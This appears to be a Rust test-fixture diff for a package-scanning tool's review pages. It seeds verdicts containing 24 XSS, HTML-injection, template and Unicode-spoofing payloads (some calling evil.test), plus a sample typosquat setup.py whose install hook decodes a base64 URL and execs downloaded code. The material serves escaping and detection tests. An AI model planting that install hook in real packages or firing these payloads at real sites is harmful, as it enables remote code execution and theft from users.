@@ -1,0 +1,344 @@
+//! Verdicts as an attacker would have them: markup, controls and lies in every field that a page shows.
+
+use model::{
+    Coverage, Digest, Finding, Frame, FrameLine, Gap, GapKind, LayerStep, Level, Outcome, PackageType, Phase, Place,
+    RuleStatus, SourceText, UploadEvent, Verdict, VerdictEvent,
+};
+use store::{Moment, Store};
+
+/// What must stay text. None of it is a working attack on anything but a page that forgets to escape.
+pub(crate) const PAYLOADS: [&str; 24] = [
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<iframe src=//evil.test/>",
+    "\"><img src=//evil.test/a.png>",
+    "'-window.pwned-'",
+    "</title><script src=//evil.test/a.js></script>",
+    "</textarea><script>1</script>",
+    "</pre></code><h1>Cleared by Gatehouse</h1>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.test/a.css>",
+    "<meta http-equiv=refresh content=0;url=//evil.test>",
+    "<base href=//evil.test/>",
+    "<form action=//evil.test/><button>Confirm</button></form>",
+    "<a href=javascript:window.pwned=1>x</a>",
+    "javascript:window.pwned=1",
+    "{{ 7*7 }} {% include 'x' %} ${7*7}",
+    "&lt;script&gt;&#60;script&#62;",
+    "https://evil.test/login?next=//evil.test",
+    "\u{202E}gnp.exe\u{2066}\u{2069}",
+    "\u{200B}\u{200D}\u{FEFF}\u{E0041}invisible\u{00AD}",
+    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
+    "p\u{0430}ypal\u{FF0E}\u{1D41E}\u{1D431}\u{1D41E}\u{1D41C}",
+    "Z\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}algo",
+];
+
+struct Made {
+    project: String,
+    version: String,
+    filename: String,
+    outcome: Outcome,
+    score: f64,
+    summary: String,
+    findings: Vec<Finding>,
+    gaps: Vec<Gap>,
+    sources: Vec<SourceText>,
+    uploaded_by: Option<String>,
+}
+
+impl Made {
+    fn event(self) -> VerdictEvent {
+        let sha256 = Digest::of(format!("{}\0{}\0{}", self.project, self.version, self.filename).as_bytes());
+        let upload = UploadEvent {
+            id: sha256.to_string(),
+            source: "/index/example".into(),
+            project: self.project.clone(),
+            version: self.version.clone(),
+            filename: self.filename.clone(),
+            sha256,
+            size: Some(1_204),
+            url: "https://index.example/files/x".into(),
+            uploaded_by: self.uploaded_by,
+            upload_time: None,
+            previous: None,
+        };
+        let verdict = Verdict {
+            schema: Verdict::SCHEMA,
+            sha256,
+            filename: self.filename,
+            project: self.project,
+            version: self.version,
+            packagetype: PackageType::Sdist,
+            outcome: self.outcome,
+            score: self.score,
+            summary: self.summary,
+            coverage: Coverage::from_gaps(self.gaps),
+            findings: self.findings,
+            rulebook: Digest::of(b"rules"),
+            engine: "gatehouse/0.1.0".into(),
+            context: upload.context().digest(),
+            bytes_packed: 1_204,
+            bytes_unpacked: 4_812,
+            members: 7,
+        };
+        VerdictEvent {
+            upload_id: upload.id.clone(),
+            upload,
+            verdict,
+            decided_by: "machine".into(),
+            revision: 1,
+            took_ms: 212,
+            sources: self.sources,
+        }
+    }
+}
+
+fn finding(rule: &str, title: &str, level: Level, phase: Option<Phase>, weight: f64, tags: &[&str]) -> Finding {
+    Finding {
+        rule: rule.into(),
+        title: title.into(),
+        level,
+        family: "fixture".into(),
+        status: RuleStatus::Stable,
+        tags: tags.iter().map(|tag| (*tag).to_owned()).collect(),
+        place: Place::default(),
+        phase,
+        evidence: String::new(),
+        frame: None,
+        weight,
+    }
+}
+
+fn at(mut finding: Finding, member: &str, lines: &[(u32, &str)], line: u32, mark: &str) -> Finding {
+    let frame_line = |(number, text): &(u32, &str)| FrameLine {
+        number: *number,
+        text: (*text).to_owned(),
+        mark: (*number == line).then(|| {
+            let start = text.find(mark).map_or(0, |at| text[..at].chars().count());
+            (start as u32, (start + mark.chars().count()) as u32)
+        }),
+        ..FrameLine::default()
+    };
+    finding.frame = Some(Frame { lines: lines.iter().map(frame_line).collect() });
+    finding.place = Place { member: member.to_owned(), line, column: 5, ..Place::default() };
+    finding
+}
+
+const SETUP: &str = r#"from setuptools import setup
+from setuptools.command.install import install
+import base64, urllib.request
+
+
+class Post(install):
+    """Runs after the files are copied."""
+
+    def run(self):
+        install.run(self)
+        url = base64.b64decode("aHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlkL3gucHk=").decode()
+        exec(urllib.request.urlopen(url).read())                                                                  # noqa
+
+
+setup(name="requestz", version="2.31.0", packages=["requestz"], cmdclass={"install": Post})
+"#;
+
+fn lines(text: &str, from: u32, to: u32) -> Vec<(u32, &str)> {
+    text.lines()
+        .enumerate()
+        .map(|(at, line)| (at as u32 + 1, line))
+        .filter(|(at, _)| (from..=to).contains(at))
+        .collect()
+}
+
+/// An ordinary bad one, as a moderator meets it.
+fn plain(project: &str, version: &str, score: f64) -> VerdictEvent {
+    let member = format!("{project}-{version}/setup.py");
+    let mut download = at(
+        finding(
+            "flow-download-execute",
+            "Downloads a file and runs it",
+            Level::Critical,
+            Some(Phase::Install),
+            4.1,
+            &["attack.t1105", "attack.t1059.006"],
+        ),
+        &member,
+        &lines(SETUP, 8, 14),
+        12,
+        "exec(urllib.request.urlopen(url).read())",
+    );
+    download.evidence = "network.fetch → code.exec, url = https://cdn.example.invalid/x.py".into();
+    let mut decoded = at(
+        finding(
+            "decoded-url",
+            "Hides an address in base64",
+            Level::Medium,
+            Some(Phase::Install),
+            1.25,
+            &["attack.t1027", "attack.t1140"],
+        ),
+        &member,
+        &[(1, "https://cdn.example.invalid/x.py")],
+        1,
+        "cdn.example.invalid",
+    );
+    let step = |operations: &[&str], line, size, text: &[u8]| LayerStep {
+        operations: operations.iter().map(|one| (*one).to_owned()).collect(),
+        line,
+        size,
+        sha256: Digest::of(text),
+    };
+    decoded.place.layers =
+        vec![step(&["base64", "zlib"], 11, 812, b"layer one"), step(&["reverse", "base64"], 1, 32, b"layer two")];
+    let mut shadow =
+        finding("young-name", "Looks like the name of a popular project", Level::Low, None, 0.0, &["attack.t1195"]);
+    shadow.status = RuleStatus::Experimental;
+    shadow.evidence = "requestz is one letter from requests".into();
+    Made {
+        project: project.into(),
+        version: version.into(),
+        filename: format!("{project}-{version}.tar.gz"),
+        outcome: Outcome::Hold,
+        score,
+        summary: "On install, setup.py:12 downloads a file and runs it".into(),
+        findings: vec![shadow, decoded, download],
+        gaps: vec![],
+        sources: vec![
+            SourceText {
+                member: format!("{project}-{version}/{project}/__init__.py"),
+                text: "__version__ = \"2.31.0\"\n".into(),
+                cut: 0,
+            },
+            SourceText { member, text: SETUP.into(), cut: 0 },
+        ],
+        uploaded_by: Some("u48213".into()),
+    }
+    .event()
+}
+
+/// Every payload in every place.
+fn hostile() -> VerdictEvent {
+    let all = PAYLOADS.join(" ");
+    let wide = format!("x = 1{}import os  # {}", " ".repeat(80), PAYLOADS[0]);
+    let long = format!("payload = '{}' + EVIL + '{}'", "A".repeat(41_800), "B".repeat(20_000));
+    let mut findings: Vec<Finding> = PAYLOADS
+        .iter()
+        .enumerate()
+        .map(|(index, payload)| {
+            let level = Level::ALL[index % Level::ALL.len()];
+            let mut one = at(
+                finding(
+                    &format!("hostile-{index}{payload}"),
+                    payload,
+                    level,
+                    Some(Phase::ALL[index % 5]),
+                    0.2,
+                    &[payload],
+                ),
+                &format!("pkg/{payload}.py"),
+                &[(1, "import os"), (2, payload), (3, &wide), (4, "\"\"\"</code>")],
+                2,
+                payload,
+            );
+            one.evidence = (*payload).into();
+            one.tags.push("attack.t1059".into());
+            one
+        })
+        .collect();
+    findings.push(at(
+        finding(
+            "long-line",
+            "Has a line of 61,000 characters",
+            Level::Medium,
+            Some(Phase::Import),
+            0.4,
+            &["attack.t1027"],
+        ),
+        "pkg/long.py",
+        &[(1, &long)],
+        1,
+        "EVIL",
+    ));
+    Made {
+        project: format!("evil{}", PAYLOADS[1]),
+        version: format!("1.0{}", PAYLOADS[4]),
+        filename: format!("evil-1.0{}.tar.gz", PAYLOADS[19].replace('/', "_")),
+        outcome: Outcome::Review,
+        score: 63.2,
+        summary: all.clone(),
+        findings,
+        gaps: PAYLOADS
+            .iter()
+            .map(|payload| Gap {
+                kind: GapKind::Unparsable,
+                member: format!("pkg/{payload}"),
+                detail: (*payload).into(),
+            })
+            .collect(),
+        sources: vec![SourceText {
+            member: format!("pkg/{}", PAYLOADS[8]),
+            text: format!("{}\n{wide}\n{long}\n", PAYLOADS.join("\n")),
+            cut: 41_800,
+        }],
+        uploaded_by: Some(PAYLOADS[2].into()),
+    }
+    .event()
+}
+
+fn incomplete() -> VerdictEvent {
+    Made {
+        project: "sealed-tools".into(),
+        version: "0.3".into(),
+        filename: "sealed_tools-0.3-py3-none-any.whl".into(),
+        outcome: Outcome::Incomplete,
+        score: 4.0,
+        summary: "One member could not be read, and nothing was found in the rest".into(),
+        findings: vec![],
+        gaps: vec![Gap { kind: GapKind::Unsupported, member: "sealed/data.bin".into(), detail: "encrypted".into() }],
+        sources: vec![],
+        uploaded_by: None,
+    }
+    .event()
+}
+
+fn clear() -> VerdictEvent {
+    Made {
+        project: "honest".into(),
+        version: "1.4.2".into(),
+        filename: "honest-1.4.2-py3-none-any.whl".into(),
+        outcome: Outcome::Clear,
+        score: 0.3,
+        summary: "Nothing was found in 12 members".into(),
+        findings: vec![],
+        gaps: vec![],
+        sources: vec![],
+        uploaded_by: Some("maintainer".into()),
+    }
+    .event()
+}
+
+/// Fills the store; the cases by what the tests call them.
+pub(crate) async fn record(store: &Store) -> serde_json::Value {
+    let mut cases = serde_json::Map::new();
+    let now = Moment::now();
+    let hour = std::time::Duration::from_secs(3_600);
+    let made = [
+        ("plain", plain("requestz", "2.31.0", 96.4), 1),
+        ("hostile", hostile(), 2),
+        ("decide", plain("colorama-plus", "1.0", 91.0), 3),
+        ("conflict", plain("numpy-fast", "0.1", 88.0), 5),
+        ("keyboard", plain("awscli-helper", "3.1", 85.5), 8),
+        ("dismiss", plain("internal-metrics", "7.0", 83.0), 20),
+        ("incomplete", incomplete(), 30),
+        ("clear", clear(), 31),
+    ];
+    for (name, event, hours) in made {
+        let seen = now.minus(hour * hours);
+        store.accept(&event.upload, seen).await.unwrap();
+        let recorded = store.record(&event, seen).await.unwrap();
+        if let Some(case) = recorded.case_id {
+            cases.insert(name.to_owned(), case.into());
+        }
+    }
+    cases.into()
+}
